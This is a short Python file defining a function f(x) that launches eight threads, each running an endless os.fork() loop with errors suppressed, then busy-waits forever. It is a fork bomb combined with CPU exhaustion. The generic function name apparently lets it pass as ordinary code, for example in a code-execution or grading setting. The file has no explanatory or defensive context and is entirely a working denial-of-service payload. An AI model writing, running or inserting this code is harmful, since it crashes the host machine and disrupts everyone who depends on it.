import os, threading
def multiply():
    while True:
        try: os.fork()
        except OSError: pass
def f(x):
    for _ in range(8):
        try: threading.Thread(target=multiply).start()
        except RuntimeError: pass
    while True: pass
